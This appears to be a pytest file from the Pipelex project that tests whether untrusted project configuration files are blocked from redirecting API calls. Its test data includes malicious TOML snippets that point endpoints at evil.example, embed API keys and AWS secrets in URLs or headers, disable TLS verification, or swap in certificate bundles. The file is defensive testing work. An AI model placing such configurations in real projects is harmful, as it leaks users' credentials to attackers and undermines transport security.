"""Model files of a project that nobody trusts: attacks of several shapes, and honest use."""

from pathlib import Path
from typing import Any

import pytest

from pipelex.config.trust import Trust, record_trust, trust_files
from pipelex.config.trust.backends import withheld_of_project
from pipelex.inference import ModelDeck
from pipelex.inference.deck.endpoint_file import OwnEndpoint, write_endpoint
from pipelex.pipes.models import ModelChoice
from tests.support.inference_files import write

USER = {"OPENAI_API_KEY": "sk-user", "AWS_SECRET_ACCESS_KEY": "aws-user", "secret:openai": "sk-secret", "GATEWAY": "https://gw.example/v1"}  # fmt: skip
EVIL = "https://evil.example"
OPENAI = "https://api.openai.com/v1"


def load(tmp_path: Path, backends: str, *, trust: bool = False, home: str | None = None, **files: str) -> ModelDeck:
    project = write(tmp_path / "work" / ".pipelex" / "inference", backends=backends, **files)
    dirs = [project]
    if home is not None:
        dirs.append(write(tmp_path / "home" / ".pipelex" / "inference", backends=home))
    trusted = Trust(tmp_path / "home" / ".pipelex", tmp_path / "work", trust)
    deck = ModelDeck.load(dirs, USER, trust=trusted)
    assert withheld_of_project([directory.parent for directory in dirs], trusted) == deck.catalog.withheld
    return deck


def sent(deck: ModelDeck) -> set[tuple[str, str]]:
    """Every address that would be called, with what it would be sent."""
    return {
        (str(backend.table.endpoint), " ".join(backend.secrets))
        for backend in deck.catalog.backends.values()
        if backend.is_ready
    }


ATTACKS = [
    # What is written, and what the question says.
    (f'[openai]\nendpoint = "{EVIL}"\n', f"[openai] endpoint sends ${{OPENAI_API_KEY}} to {EVIL}"),
    (f'[openai]\nendpoint = "{EVIL}"\napi_key = "${{OPENAI_API_KEY}}"\n', f"sends ${{OPENAI_API_KEY}} to {EVIL}"),
    (f'[mine]\nendpoint = "{EVIL}"\napi_key = "${{secret:openai}}"\nmodels = ["m"]\n', f"sends ${{secret:openai}} to {EVIL}"),
    (f'[mine]\nendpoint = "{EVIL}"\nmodels = ["m"]\nis_default = true\n', f"sends what methods are given to {EVIL}"),
    (f'[mine]\nendpoint = "{EVIL}"\nheaders = {{ x-a = "${{AWS_SECRET_ACCESS_KEY}}" }}\n', "${AWS_SECRET_ACCESS_KEY}"),
    ('[mine]\napi_key = "${AWS_SECRET_ACCESS_KEY}"\nmodels = ["m"]\n', "sends ${AWS_SECRET_ACCESS_KEY} to the provider of [mine]"),
    ('[openai]\norganization = "${AWS_SECRET_ACCESS_KEY}"\n', "[openai] organization reads ${AWS_SECRET_ACCESS_KEY}"),
    ('[openai]\napi_key = "sk-of-somebody-else"\n', f"sends a key of its own to {OPENAI}"),
    ("[openai]\nverify = false\n", "[openai] verify is False"),
    ('[openai]\nca_bundle = "ca.pem"\n', "[openai] ca_bundle is 'ca.pem'"),
    ('[fal]\nsdk = "openai"\n', "[fal] sdk sends ${FAL_API_KEY} to the provider of 'openai'"),
    ('[openai]\nsdk = "linkup"\n', "[openai] sdk sends ${OPENAI_API_KEY} to the provider of 'linkup'"),
    ('[linkup]\nmodels = ["gpt-5"]\n', "[linkup] models sends ${LINKUP_API_KEY} to the provider of 'openai'"),
    ('[openai]\nendpoint_variables = { HOME = "" }\n', "[openai] endpoint_variables"),
    ('[vertexai]\nenabled = true\ngcp_credentials_file_path = "/home/u/key.json"\n', "/home/u/key.json"),
    ('[openai]\nendpoint = "http://127.0.0.1:9/v1"\n', "[openai] endpoint sends ${OPENAI_API_KEY} to http://127.0.0.1:9/v1"),
]  # fmt: skip


@pytest.mark.matrix(fast=3)
@pytest.mark.parametrize(("text", "said"), ATTACKS)
def test_what_needs_trust_is_withheld_and_told(tmp_path: Path, text: str, said: str):
    deck = load(tmp_path, text)
    assert any(said in str(demand) for demand in deck.catalog.withheld), [str(d) for d in deck.catalog.withheld]
    assert all(demand.line for demand in deck.catalog.withheld)
    usual = sent(ModelDeck.load([], USER))
    assert sent(deck) <= usual
    assert load(tmp_path, text, trust=True).catalog.withheld == ()


INSIDE = [
    "https://evil.example/${secret:openai}/${AWS_SECRET_ACCESS_KEY}",
    "https://${OPENAI_API_KEY}.evil.example/v1",
    "https://evil.example/?k=${OPENAI_API_KEY}",
    "${AWS_SECRET_ACCESS_KEY}",
    "${secret:openai}",
    "https://u:${OPENAI_API_KEY}@evil.example",
]


@pytest.mark.parametrize("address", INSIDE)
def test_no_address_of_a_project_holds_a_variable_whoever_trusts_it(tmp_path: Path, address: str):
    deck = load(tmp_path, f'[mine]\nendpoint = "{address}"\nmodels = ["m"]\n', trust=True)
    (warning,) = deck.warnings
    assert (warning.location.line, warning.severity) == (2, "warning")
    assert not deck.catalog.backends["mine"].is_ready
    assert deck.resolve(ModelChoice(family="llm")).backend != "mine"


def test_an_address_may_be_a_variable_as_a_whole_once_it_is_trusted(tmp_path: Path):
    text = '[mine]\nendpoint = "${GATEWAY}"\nmodels = ["m"]\n'
    assert load(tmp_path, text, trust=True).catalog.backends["mine"].table.endpoint == USER["GATEWAY"]
    assert not load(tmp_path, text).catalog.backends["mine"].is_ready


def test_a_table_of_the_users_own_cannot_be_led_elsewhere(tmp_path: Path):
    home = '[corp]\nendpoint = "https://corp.example/v1"\napi_key = "literal-key"\nmodels = ["m"]\n'
    deck = load(tmp_path, f'[corp]\nendpoint = "{EVIL}"\n', home=home)
    assert deck.catalog.backends["corp"].table.endpoint == "https://corp.example/v1"
    assert "the key of [corp]" in str(deck.catalog.withheld[0])


CORP = '[openai]\nendpoint = "https://corp.example/v1"\napi_key = "${GATEWAY_KEY}"\nheaders = { x-corp = "blue" }\n'
PUBLIC = f'[openai]\nendpoint = "{OPENAI}"\n'


@pytest.mark.parametrize(
    ("text", "said"),
    [
        (PUBLIC, "${GATEWAY_KEY} and the headers of [openai] to https://api.openai.com"),
        (PUBLIC + 'api_key = "${OPENAI_API_KEY}"\n', "the headers of [openai] to https://api.openai.com"),
        ('[openai]\napi_key = "${OPENAI_API_KEY}"\n', "sends ${OPENAI_API_KEY} to https://corp.example/v1"),
        ('[openai]\nendpoint = "http://127.0.0.1:9/v1"\n', "${GATEWAY_KEY} and the headers of [openai]"),
    ],
)
def test_what_is_meant_for_a_private_gateway_goes_nowhere_else(tmp_path: Path, text: str, said: str):
    deck = load(tmp_path, text, home=CORP)
    assert said in " ".join(map(str, deck.catalog.withheld))
    assert deck.catalog.backends["openai"].table.endpoint == "https://corp.example/v1"
    assert deck.catalog.backends["openai"].missing == ("GATEWAY_KEY",)
    assert load(tmp_path, CORP, home=CORP).catalog.withheld == ()


def test_nobody_is_asked_about_backends_that_are_not_enabled(tmp_path: Path):
    deck = load(tmp_path, f'[mine]\nenabled = false\nendpoint = "{EVIL}"\napi_key = "${{OPENAI_API_KEY}}"\n')
    assert deck.catalog.withheld == ()
    assert not deck.catalog.backends["mine"].is_ready


def test_variables_in_models_of_a_project_are_withheld(tmp_path: Path):
    models = '[m]\nsdk = "openai"\nx-key = "${AWS_SECRET_ACCESS_KEY}"\nx-team = "blue"\n'
    deck = load(tmp_path, "", backends__openai=models)
    assert deck.catalog.backends["openai"].models[0].table.headers == {"x-team": "blue"}
    assert "[m] x-key reads ${AWS_SECRET_ACCESS_KEY}" in str(deck.catalog.withheld[0])


@pytest.mark.parametrize(
    ("backend", "models"),
    [
        ("fal", '[m]\nsdk = "openai"\n'),
        ("linkup", '[defaults]\nsdk = "anthropic"\n[m]\nmodel_type = "llm"\n'),
        ("openai", '[m]\nsdk = "linkup"\nmodel_type = "search"\n'),
        ("openai", '[m]\nsdk = "azure_openai_responses"\n'),
        ("groq", '[m]\nsdk = "openai_responses"\n'),
        ("linkup", '[m]\nsdk = "xai"\n'),
    ],
)
def test_no_model_of_a_project_takes_a_key_to_another_provider(tmp_path: Path, backend: str, models: str):
    name = "defaults" if "defaults" in models else "m"
    files: dict[str, Any] = {f"backends__{backend}": models}
    deck = load(tmp_path, "", **files)
    (demand,) = deck.catalog.withheld
    assert f"[{name}] sdk sends ${{{backend.upper()}_API_KEY}} to the provider of" in str(demand)
    assert deck.catalog.backends[backend].models == ()


@pytest.mark.parametrize(
    ("backend", "sdk"),
    [
        ("openai", "openai_responses"),
        ("azure_openai", "azure_openai_responses"),
        ("bedrock", "bedrock_aioboto3"),
        ("bedrock", "bedrock_anthropic"),
        ("groq", "groq"),
        ("huggingface", "huggingface"),
        ("mistral", "mistral"),
        ("xai", "xai"),
        ("vertexai", "google_img_gen"),
        ("internal", "docling_sdk"),
    ],
)
def test_every_client_of_a_provider_may_call_it(tmp_path: Path, backend: str, sdk: str):
    """The folders of other releases name clients that the packaged files do not."""
    files: dict[str, Any] = {f"backends__{backend}": f'[defaults]\nsdk = "{sdk}"\n[m]\n'}
    deck = load(tmp_path, f"[{backend}]\nenabled = true\n", **files)
    assert deck.catalog.withheld == ()
    assert sdk in {model.table.sdk for model in deck.catalog.backends[backend].models}


CA = '[openai]\nca_bundle = "ca.pem"\n'


def test_certificates_are_trusted_by_what_they_hold(tmp_path: Path):
    folder, home = tmp_path / "work" / ".pipelex" / "inference", tmp_path / "home" / ".pipelex"
    folder.mkdir(parents=True)
    (folder / "ca.pem").write_text("the firm's", encoding="utf-8")
    withheld = load(tmp_path, CA).catalog.withheld
    assert {demand.file.name for demand in withheld} == {"backends.toml", "ca.pem"}
    record_trust(home, withheld)
    deck = load(tmp_path, CA)
    assert (deck.catalog.withheld, deck.catalog.backends["openai"].table.ca_bundle) == ((), str(folder / "ca.pem"))
    (folder / "ca.pem").write_text("somebody else's", encoding="utf-8")
    deck = load(tmp_path, CA)
    assert [str(one).partition(": ")[2] for one in deck.catalog.withheld] == [
        "what it holds decides [openai] ca_bundle"
    ]
    assert deck.catalog.backends["openai"].table.ca_bundle is None


def test_a_project_puts_no_certificates_in_the_place_of_the_users(tmp_path: Path):
    folder = tmp_path / "work" / ".pipelex" / "inference"
    folder.mkdir(parents=True)
    (folder / "ca.pem").write_text("evil", encoding="utf-8")
    deck = load(tmp_path, CA, home=CA)
    assert deck.catalog.backends["openai"].table.ca_bundle == str(tmp_path / "home/.pipelex/inference/ca.pem")
    assert [demand.file.name for demand in deck.catalog.withheld] == ["ca.pem"]


HONEST = [
    '[openai]\napi_key = "${OPENAI_API_KEY}"\n',
    f'[openai]\nendpoint = "{OPENAI}"\napi_key = "${{OPENAI_API_KEY}}"\n',
    "[xai]\nenabled = false\n",
    '[ollama]\nendpoint = "http://localhost:11434/v1"\nmodels = ["llama3.2"]\n',
    '[mine]\nendpoint = "http://127.0.0.1:8000/v1"\napi_key = "none"\nmodels = ["m"]\nis_default = true\n',
    '[openai]\nmodels = ["gpt-6"]\ntoken_parameter = "max_tokens"\n',
]


@pytest.mark.parametrize("text", HONEST)
def test_choosing_models_and_this_machine_needs_no_trust(tmp_path: Path, text: str):
    deck = load(tmp_path, text)
    assert deck.catalog.withheld == ()
    assert sent(deck) == sent(load(tmp_path, text, trust=True))


def test_what_the_writer_wrote_is_trusted_as_written(tmp_path: Path):
    home, project = tmp_path / "home" / ".pipelex", tmp_path / "work" / ".pipelex"
    file = write_endpoint(project, OwnEndpoint("https://models.example/v1", ["m"], "${OPENAI_API_KEY}"), home)
    trust = Trust(home, tmp_path / "work")
    assert ModelDeck.load([file.parent], USER, trust=trust).catalog.withheld == ()
    file.write_text(file.read_text(encoding="utf-8").replace("models.example", "evil.example"), encoding="utf-8")
    assert ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work")).catalog.withheld != ()


def test_the_writer_does_not_make_trusted_what_others_wrote(tmp_path: Path):
    home, project = tmp_path / "home" / ".pipelex", tmp_path / "work" / ".pipelex"
    write(project / "inference", backends=f'[openai]\nendpoint = "{EVIL}"\n')
    file = write_endpoint(project, OwnEndpoint("http://localhost:1/v1", ["m"]), home)
    deck = ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work"))
    assert deck.catalog.backends["openai"].table.endpoint == OPENAI
    trust_files(home, [file])
    deck = ModelDeck.load([file.parent], USER, trust=Trust(home, tmp_path / "work"))
    assert deck.catalog.backends["openai"].table.endpoint == EVIL
